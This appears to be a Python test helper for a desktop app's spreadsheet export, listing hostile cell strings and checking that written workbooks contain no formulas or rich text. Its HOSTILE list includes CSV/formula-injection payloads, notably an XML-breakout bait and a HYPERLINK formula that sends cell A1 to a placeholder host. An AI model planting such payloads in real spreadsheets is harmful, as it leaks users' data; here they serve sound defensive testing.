"""Hostile cell text and checks of written workbooks, shared by the engine and CLI tests of
issue 14 (items 2 and 18)."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

from desktop.engine.export import clean_text

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# Rich-text bait: XlsxWriter pastes a string shaped <r>...</r> into the sheet XML unescaped, so this
# one closes its cell and opens a formula cell that sends A1 away.
BAIT = ('<r><t>a</t></r></is></c><c r="Z1"><f>HYPERLINK("http://x?leak="&amp;A1,"x")</f></c>'
        '<c r="Z2" t="inlineStr"><is><r><t>b</t></r>')
HOSTILE = [
    BAIT,
    "<r>x</r>",
    '=HYPERLINK("http://x?leak="&A1,"x")',
    "+1-2",
    "-3+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=2+2",
    "ctl\x01\x07x\x1b[2J",
    "_x0041_ literal",
    "+86 138 0013 8000",
]


def assert_safe_workbook(path: Path) -> None:
    """No formula element and no cell content other than plain text or a value, in every part."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.endswith(".xml"):
                continue
            data = archive.read(name).decode("utf-8")
            assert not re.search(r"<f[ >]", data), f"formula element in {name}"
            if name.startswith("xl/worksheets/"):
                root = ET.fromstring(data)
                for cell in root.iter(f"{NS}c"):
                    assert {child.tag for child in cell} <= {f"{NS}is", f"{NS}v"}, name
                    for inline in cell.iter(f"{NS}is"):
                        assert [c.tag for c in inline] == [f"{NS}t"], f"rich text in {name}"
                    assert cell.get("t") in (None, "inlineStr", "b", "n"), cell.get("t")


def texts(path: Path) -> set[str]:
    """Every text in the workbook, read with python-calamine, which decodes Excel's _xHHHH_
    escapes as Excel does (openpyxl drops "_x005F" and cannot judge such text)."""
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_path(str(path))
    return {v for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()
            for v in row if isinstance(v, str)}


def column(path: Path, sheet: str | int, header: str) -> list:
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_path(str(path))
    rows = book.get_sheet_by_name(sheet if isinstance(sheet, str) else book.sheet_names[sheet]).to_python()
    j = rows[0].index(header)
    return [r[j] for r in rows[1:]]


def written(value: str) -> str:
    """What a cell holds after the one cleaning every writer applies (xlsx cannot hold C0 controls;
    CR becomes Excel's line feed); for ordinary hostile text, exactly the value."""
    return clean_text(value)
